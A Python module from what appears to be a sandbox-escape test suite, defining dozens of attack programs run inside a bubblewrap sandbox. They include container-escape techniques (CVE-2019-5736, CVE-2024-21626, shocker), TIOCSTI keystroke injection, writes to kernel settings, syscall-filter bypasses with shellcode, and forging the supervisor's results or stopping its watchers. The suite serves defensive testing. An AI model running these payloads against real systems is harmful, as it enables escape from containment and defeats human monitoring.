"""Commands that reach for what is outside the sandbox, and what all attacking commands share."""

import fcntl
import functools
import os
import re
import signal
import subprocess
import sys
import termios
import time
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, contextmanager
from dataclasses import replace
from typing import Any
from unittest.mock import patch

from benchmarks.attackers import trial
from benchmarks.attackers.trial import NOBODY, SMALL, Attack, Stage, no_filter, own_namespaces, plain, visible
from length_gen.tools.sandbox import Limits, Result, bubblewrap

PRELUDE = """
import ctypes, fcntl, mmap, os, signal, socket, struct, sys, threading, time
from glob import glob
libc = ctypes.CDLL(None, use_errno=True)

def call(numbers, *arguments):
    "A system call by its number, or by its numbers on x86_64 and aarch64."
    number = numbers if isinstance(numbers, int) else numbers[os.uname().machine == "aarch64"]
    return libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])

def got(what):
    print("\\nGOT", what, flush=True)

def others():
    "Processes that this one did not start; outside of a sandbox its parent alone."
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()] if os.getpid() < 1000 \
        else [os.getppid()]

def pour(ends):
    "Send between two sockets, both ways, until nothing fits any more; bytes."
    size = 0
    for end in ends:
        end.setsockopt(1, socket.SO_SNDBUF, 4 << 20)
        end.setblocking(False)
        try:
            while True: size += end.send(bytes(1 << 16))
        except OSError: pass
    return size

def sockets(more, size=100 << 20):
    "A filler for `hold`: calls `more`, which keeps sockets in a list and gives their bytes, until there are so many."
    def fill():
        global keep
        keep, filled = [], 0
        try:
            while filled < size: filled += more(keep)
        except OSError: pass
        return filled
    return fill

def hold(fill, processes, target=3 * MEMORY, leave=False):
    "Fill memory in several processes, and see whether they all live with it."
    reader, writer = os.pipe()
    for _ in range(processes):
        if os.fork() == 0:
            def work():
                time.sleep(0.2 * leave)
                kept = fill()
                os.write(writer, struct.pack("q", kept if isinstance(kept, int) else len(kept)))
                time.sleep(20)
            if leave:  # the first thread ends, and with it what /proc says of the process
                threading.Thread(target=work).start()
                call((60, 93), 0)
            work()
    os.close(writer)
    held = 0
    while held < target and (part := os.read(reader, 8)):
        held += struct.unpack("q", part)[0]
    if held >= target:
        time.sleep(0.3)
        got(f"{held >> 20} MB" if target > 1 << 24 else held)
"""


def command(kind: str, name: str, code: str, off: Callable[[], AbstractContextManager] = plain,
            judge: Callable[[Stage, Any, Result], str] = lambda *_: "", limits: Limits = SMALL) -> Attack:
    """A Python program as a command; it got what it prints after GOT, the token, the marker, or what `judge` says."""

    def attempt(stage: Stage) -> str:
        box = trial.new_sandbox(limits)
        try:
            text = PRELUDE + code
            box.write({"attack.py": (stage.names(text) + text).encode()})
            result = box.run(f"{os.path.basename(bubblewrap.python())} attack.py")
            said = re.findall(r"^GOT (.*)$", result.output, re.MULTILINE)
            return ", ".join([*said[:1], *["the token"] * (stage.token in result.output + result.exceeded),
                              *["a file of the host"] * stage.marker.exists(),
                              *filter(None, [judge(stage, box, result)])])
        finally:
            box.close()

    return Attack(kind, name, attempt, off)


def forged(stage: Stage, box: Any, result: Result) -> str:
    """Whether a command's result, or that of the next one, is what the command has made up."""
    return "a forged result" * any("forged" in text for text in (result.exceeded, box.run("true").exceeded))


@contextmanager
def inherited() -> Iterator[None]:
    """File descriptors of the host go to whom it starts."""
    start = subprocess.Popen.__init__

    def init(self: Any, *arguments: Any, pass_fds: tuple[int, ...] = (), **options: Any) -> None:
        open_files = [fd for fd in map(int, os.listdir("/proc/self/fd")) if fd > 2]
        start(self, *arguments, pass_fds=[*pass_fds, *filter(inheritable, open_files)], **options)

    with patch.object(subprocess.Popen, "__init__", init):
        yield


def inheritable(fd: int) -> bool:
    """Whether a file descriptor that is open goes to a child process."""
    try:
        return os.get_inheritable(fd)
    except OSError:
        return False


def with_open_folder(attack: Attack) -> Attack:
    """A folder of the host stays open, and is inherited (CVE-2024-21626)."""

    def attempt(stage: Stage) -> str:
        fd = os.open(stage.folder, os.O_RDONLY)
        os.set_inheritable(fd, True)
        return attack.attempt(stage)

    return replace(attack, attempt=attempt)


def with_terminal(attack: Attack) -> Attack:
    """The host runs in a terminal, at which somebody has typed the token; what is then typed counts as got."""

    def attempt(stage: Stage) -> str:
        keyboard, terminal = os.openpty()
        fcntl.ioctl(terminal, termios.TIOCSCTTY, 0)
        mode = termios.tcgetattr(terminal)
        mode[3] &= ~(termios.ICANON | termios.ECHO)
        termios.tcsetattr(terminal, termios.TCSANOW, mode)
        os.dup2(terminal, 0)
        os.write(keyboard, stage.token.encode() * ("typed" in attack.name))
        signal.signal(signal.SIGTTOU, signal.SIG_IGN)
        found = attack.attempt(stage)
        waiting = int.from_bytes(fcntl.ioctl(terminal, termios.FIONREAD, b"\0\0\0\0"), sys.byteorder)
        return found or "typed into the host's terminal" * bool(waiting and "typed" not in attack.name)

    return replace(attack, attempt=attempt)


def where_only_root_runs_python(attack: Attack) -> Attack:
    """The host is root, and its Python in a folder that nobody else can enter, so that nobody cannot take its place."""

    def attempt(stage: Stage) -> str:
        private = stage.folder / "private"
        private.mkdir(mode=0o700)
        (private / "python3").touch(0o755)
        identity = getattr(bubblewrap._identity, "__wrapped__", bubblewrap._identity)
        with patch.object(bubblewrap, "python", lambda: str(private / "python3")):
            rights = identity()
        with patch.object(bubblewrap, "_identity", lambda: rights):
            return attack.attempt(stage)

    return replace(attack, attempt=attempt)


FAMILY = """
for family, kind, protocol in {}:
    try:
        socket.socket(family, kind, protocol)
        got(f"a socket of family {{family}}")
    except OSError as error:
        print(error)
"""


COMMANDS = [
    command("files of the host", "by path, and by /proc/PID/root, cwd and fd", """
for path in (SECRET, f"/proc/{HOST}/root{SECRET}", "/proc/1/root" + SECRET, "/proc/self/root/../../.." + SECRET,
             f"/proc/{VICTIM}/cwd/secret", *glob("/proc/[0-9]*/fd/*/secret"), *glob("/proc/[0-9]*/cwd/secret")):
    try: print(open(path).read())
    except OSError as error: print(error)
"""),
    with_open_folder(command("files of the host", "a folder that the host left open (CVE-2024-21626)", """
for fd in range(1024):
    try: print(open(os.open("secret", os.O_RDONLY, dir_fd=fd)).read())
    except OSError: pass
""", inherited)),
    command("files of the host", "by file handle (open_by_handle_at, shocker)", """
kind, handle = HANDLE
buffer = ctypes.create_string_buffer(struct.pack("Ii", len(handle), kind) + handle, 200)
for path in ("/", "/usr", "/etc/alternatives", "/repo", "."):
    fd = call((304, 265), os.open(path, os.O_RDONLY), buffer, os.O_RDONLY)
    if fd >= 0: print(os.read(fd, 100))
"""),
    command("writing to the host", "a file by path", """
for path in (MARKER, "../../../../../.." + MARKER, f"/proc/{HOST}/root{MARKER}", "/proc/1/root" + MARKER):
    try: open(path, "w").write("x")
    except OSError as error: print(error)
"""),
    command("writing to the host", "its programs, by /proc/PID/exe (CVE-2019-5736)", """
for path in ("/usr/bin/env", *glob("/proc/[0-9]*/exe"), "/proc/self/exe"):
    try: os.open(path, os.O_WRONLY); got(os.path.realpath(path))
    except OSError as error: print(error)
"""),
    command("writing to the host", "settings of the kernel (core_pattern, modprobe, sysrq)", """
for path in ("kernel/core_pattern", "kernel/modprobe", "../sysrq-trigger", "kernel/hostname", "vm/drop_caches"):
    try: os.open("/proc/sys/" + path, os.O_WRONLY); got(path)
    except OSError as error: print(error)
"""),
    command("namespaces", "unshare, a user namespace of its own", """
if call((272, 97), 0x10000000) == 0:
    open("/proc/self/setgroups", "w").write("deny")
    got("all rights in a namespace of its own")
""", own_namespaces),
    command("namespaces", "clone and clone3, whose flags filters overlook", """
if call((56, 220), 0x10000000 | 17, 0, 0, 0, 0) > 0: got("clone")
if call(435, struct.pack("11Q", 0x10000000, 0, 0, 0, 17, *[0] * 6), 88) > 0: got("clone3")
""", own_namespaces),
    command("namespaces", "setns to those of other processes", """
for pid in (VICTIM, HOST, 1, *others()):
    for kind in ("user", "net", "ipc", "uts"):
        try:
            fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            if os.fstat(fd).st_ino != os.stat(f"/proc/self/ns/{kind}").st_ino or os.getpid() > 1000:
                if call((308, 268), fd, 0) == 0: got(kind)
        except OSError as error: print(error)
"""),
    command("mounts", "mount over a folder", """
if call((272, 97), 0x20000) == 0: libc.mount(None, b"/", None, 1 << 14 | 1 << 18, None)  # its own namespace of mounts
for folder in (b"/repo", b"/usr/local"):
    if libc.mount(b"none", folder, b"tmpfs", 0, b"size=1g") == 0: got("a folder without limits")
"""),
    command("mounts", "the new calls: fsopen, open_tree, open_tree_attr", """
if call(430, b"tmpfs", 0) >= 0: got("fsopen")
if call(428, -100, b"/", 1) >= 0: got("open_tree")
if call(467, -100, b"/", 1, 0, 0) >= 0: got("open_tree_attr")
"""),
    command("mounts", "chroot, to climb out of it", """
os.mkdir("x"); os.chroot("x"); got("chroot")
"""),
    command("rights", "programs with the setuid bit", """
import subprocess
su = subprocess.Popen(["/usr/bin/su"], stdin=subprocess.PIPE)
time.sleep(0.3)
if "Uid:\\t65534\\t0" in open(f"/proc/{su.pid}/status").read(): got("a process of root")
su.kill()
""", functools.partial(plain, NOBODY)),
    command("rights", "a device file of the host's disk", """
os.mknod("disk", 0o60600, os.stat(SECRET if os.path.exists(SECRET) else "/usr").st_dev); got("the disk")
"""),
    *([where_only_root_runs_python(command("rights", "the user id of the host's root, without capabilities", """
for path in ("kernel/core_pattern", "vm/drop_caches"):
    try: os.open("/proc/sys/" + path, os.O_WRONLY); got(path)
    except OSError as error: print(error)
""", functools.partial(patch.object, bubblewrap, "_identity", dict)))] if os.geteuid() == 0 else []),
    command("processes of the host", "read the memory of one", """
address = next(int(line.split("-")[0], 16) for line in open(f"/proc/{VICTIM}/maps") if "[heap]" in line)
data = ctypes.create_string_buffer(1 << 20)
local, there = struct.pack("QQ", ctypes.addressof(data), 1 << 20), struct.pack("QQ", address, 1 << 20)
call((310, 270), VICTIM, local, 1, there, 1, 0)
print(data.raw.replace(b"\\0", b"").decode(errors="replace"), open(f"/proc/{VICTIM}/environ").read())
"""),
    command("processes of the host", "attach to one (ptrace), take its files (pidfd_getfd)", """
if call((101, 117), 16, VICTIM, 0, 0) == 0: got("ptrace")
fd = call(438, call(434, VICTIM, 0), 3, 0)
if fd > 0: print(os.pread(fd, 100, 0))
"""),
    command("processes of the host", "kill one", """
os.kill(VICTIM, 9)
""", judge=lambda stage, *_: "killed it" * (time.sleep(0.1) or stage.victim.poll() is not None)),
    with_terminal(command("terminal", "type commands into it (TIOCSTI, CVE-2017-5226)", """
for path in ("/dev/tty", "/dev/stdin", "/proc/1/fd/0"):
    try:
        fd = os.open(path, os.O_RDWR)
        for c in b"id": fcntl.ioctl(fd, 0x5412, bytes([c]))
        fcntl.ioctl(fd, 0x541C, b"\\3")  # TIOCLINUX
    except OSError as error: print(error)
""")),
    with_terminal(command("terminal", "read what is typed", """
print(os.read(os.open("/dev/tty", os.O_RDWR | os.O_NONBLOCK), 1000))
""")),
    command("network", "a port of the host", "print(socket.create_connection(('127.0.0.1', PORT), 1).recv(99))\n"),
    command("network", "an abstract socket", """
s = socket.socket(socket.AF_UNIX); s.connect(ABSTRACT); print(s.recv(99))
"""),
    command("network", "a socket in a folder", """
for root in ("", f"/proc/{HOST}/root", "/proc/1/root"):
    s = socket.socket(socket.AF_UNIX)
    try: s.connect(root + SOCKET); print(s.recv(99))
    except OSError as error: print(error)
"""),
    command("socket families", "vsock, which no namespace holds", FAMILY.format("[(40, 1, 0), (40, 2, 0)]"), no_filter),
    command("socket families", "netlink, alg, bluetooth, tipc", FAMILY.format(
        "[(16, 3, 0), (16, 3, 15), (38, 5, 0), (31, 3, 0), (30, 1, 0), (44, 2, 0)]"), no_filter),
    command("socket families", "packet and raw", FAMILY.format("[(17, 3, 768), (2, 3, 1), (10, 3, 58)]")),
    command("round the filter", "io_uring, which opens and connects by itself", """
if call(425, 8, ctypes.create_string_buffer(200)) >= 0: got("a ring")
""", no_filter),
    command("round the filter", "calls by the numbers of i386 (int 0x80) and x32", """
for name, machine in (("i386", b"\\x53\\xb8\\x14\\0\\0\\0\\xcd\\x80\\x5b\\xc3"),
                      ("x32", b"\\xb8\\x27\\0\\0\\x40\\x0f\\x05\\xc3")):
    if os.fork() == 0:
        memory = mmap.mmap(-1, 4096, prot=7, flags=0x22)
        memory.write(machine)
        answer = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()
        if answer == os.getpid(): got(name)
        os._exit(0)
    os.wait()
""", no_filter),
    command("round the filter", "calls that are newer than it", """
for number in (463, 464, 465, 466, 467, 468, 469, *range(470, 480)):  # from setxattrat on
    call(number, -1, 0, 0, 0, 0)
    if ctypes.get_errno() != 38: got(number)
    ctypes.set_errno(0)
""", no_filter),
    command("kernel interfaces", "userfaultfd", "if call((323, 282), 1) >= 0: got('userfaultfd')\n", no_filter),
    command("kernel interfaces", "bpf", """
if call((321, 280), 0, struct.pack("IIIII", 2, 4, 4, 1, 0) + bytes(100), 120) >= 0: got("a map")
"""),
    command("kernel interfaces", "perf_event_open", """
if call((298, 241), struct.pack("IIQ", 1, 112, 0) + bytes(96), 0, -1, -1, 0) >= 0: got("counters")
"""),
    command("quotas of the machine", "asynchronous I/O (fs.aio-max-nr)", """
if call((206, 0), 40000, ctypes.byref(ctypes.c_ulong())) == 0: got("40000 events")
""", no_filter),
    command("quotas of the machine", "the user's inotify instances", """
fds = [libc.inotify_init() for _ in range(50)]
if min(fds) >= 0: got("50 instances")
""", no_filter),
    command("the supervisor", "forged results by its files (pidfd_getfd, /proc/PID/fd)", """
for pid in others():
    for number in range(20):
        fds = [call(438, call(434, pid, 0), number, 0)]
        try: fds.append(os.open(f"/proc/{pid}/fd/{number}", os.O_WRONLY | os.O_NONBLOCK))
        except OSError: pass
        for fd in fds:
            try: os.write(fd, b"0 1 6 3\\n0forgedyes")
            except OSError: pass
time.sleep(1)
""", visible, forged),
    command("the supervisor", "its memory (/proc/PID/mem)", """
for pid in others():
    try:
        memory = open(f"/proc/{pid}/mem", "r+b", 0)
        for line in open(f"/proc/{pid}/maps"):
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw" in line and end - start < 1 << 27:
                memory.seek(start)
                text = memory.read(end - start)
                for word in (b"timed out", b"exceeded "):
                    place = -1
                    while (place := text.find(word, place + 1)) >= 0:
                        memory.seek(start + place); memory.write(b"forged   ")
    except OSError as error: print(error)
time.sleep(9)
""", visible, forged),
    command("signals", "stop what watches, and go on", """
for pid in others():
    try: os.kill(pid, signal.SIGSTOP)
    except OSError: pass
time.sleep(SECONDS + 2); got("more time than it had")
"""),
    command("signals", "crash, for the program that takes core dumps on the host", """
import resource
if resource.getrlimit(resource.RLIMIT_CORE)[0] != 1: got("its start, as root")  # core(5): 0 does not stop it
"""),
]
